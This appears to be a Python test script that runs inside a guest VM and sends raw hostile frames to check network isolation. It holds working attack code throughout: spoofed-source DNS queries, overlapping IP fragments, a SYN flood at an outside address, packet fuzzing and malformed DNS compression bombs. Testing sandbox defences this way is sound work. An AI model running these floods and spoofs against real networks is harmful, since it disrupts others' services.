"""What a guest can do to its network with raw frames. Runs in the guest: `python3 -c <this> MODE SERVER NAMESERVER`."""

import random
import socket
import struct
import sys

mode, server, nameserver = sys.argv[1:]
noise = random.Random(7)

with socket.create_connection((server, 80), 30) as honest:
    own_ip = honest.getsockname()[0]
with open("/sys/class/net/eth0/address") as text:
    own_mac = bytes.fromhex(text.read().strip().replace(":", ""))
with open("/proc/net/arp") as text:
    gateway_mac = bytes.fromhex(text.readlines()[1].split()[3].replace(":", ""))

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) & ~1])) + (data[-1] << 8 if len(data) % 2 else 0)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_frame(protocol, payload, to, source=own_ip, mac=own_mac, fragment=0, number=1, options=b""):
    fields = [0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), number, fragment, 64, protocol, 0]
    header = struct.pack("!BBHHHBBH", *fields) + socket.inet_aton(source) + socket.inet_aton(to) + options
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return gateway_mac + mac + b"\x08\x00" + header + payload


def udp(port, payload):
    # A checksum of zero: none.
    return struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload


def tcp(source_port, port, source=own_ip, to=server, flags=2, window=64240, options=b""):
    header = struct.pack("!HHIIBBHHH", source_port, port, 1, 0, (5 + len(options) // 4) << 4, flags, window, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, 20 + len(options))
    return header[:16] + struct.pack("!H", checksum(pseudo + header + options)) + header[18:] + options


def query(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack("!HHHHHH", noise.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def ask(name, **forged):
    wire.send(ip_frame(17, udp(53, query(name)), nameserver, **forged))


def spoofed():
    ask("from-itself.example.net")
    ask("forged-mac.example.net", mac=bytes([2, 1, 1, 1, 1, 1]))
    ask("forged-mac.example.net", mac=b"\xff" * 6)
    for source in ["172.16.0.1", "172.31.255.9", "127.0.0.1", "0.0.0.0", "255.255.255.255", server]:
        ask("forged-ip.example.net", source=source)
    ask("to-itself.example.net")


def fragments():
    for number in range(3000):
        whole = udp(53, query(f"fragment{number}.example.net") + bytes(1400))
        # More follow; the second piece lies over the first, and the last never comes.
        for offset, piece in [(0, whole[:800]), (8, whole[8:808]), (100, whole[800:])]:
            wire.send(ip_frame(17, piece, nameserver, fragment=0x2000 | offset, number=number))


def syns():
    for count in range(20000):
        wire.send(ip_frame(6, tcp(1024 + count % 60000, 80 + count // 60000, to="93.184.216.99"), "93.184.216.99"))


def options():
    for _ in range(3000):
        length = 4 * noise.randrange(1, 11)
        of_tcp = noise.randbytes(length)
        of_ip = noise.randbytes(4 * noise.randrange(0, 11))
        segment = tcp(noise.randrange(1024, 65536), 80, flags=noise.randrange(256), window=noise.randrange(3), options=of_tcp)
        wire.send(ip_frame(6, segment, server, options=of_ip))


def garbage():
    for _ in range(10000):
        frame = noise.randbytes(noise.randrange(14, 1500))
        # Half of them to the gateway, of a kind that it reads.
        if noise.random() < 0.5:
            kind = noise.choice([b"\x08\x00", b"\x08\x06", b"\x86\xdd"])
            frame = gateway_mac + own_mac + kind + frame[14:]
        wire.send(frame)


def bombs():
    for count in range(5000):
        name = ".".join("x" * 60 for _ in range(4)) if count % 2 else f"bomb{count}.example.net"
        ask(name)
    for _ in range(2000):
        head = struct.pack("!HHHHHH", 1, 0x0100, *[noise.choice([0, 1, 0xFFFF]) for _ in range(4)])
        # Names that point at themselves, and labels that end nowhere.
        body = noise.choice([b"\xc0\x0c", b"\xc0\x0e\xc0\x0c", b"\x3f" * 40, noise.randbytes(60)])
        wire.send(ip_frame(17, udp(53, head + body), nameserver))


{"spoofed": spoofed, "fragments": fragments, "syns": syns, "options": options, "garbage": garbage, "bombs": bombs}[mode]()
print("sent")
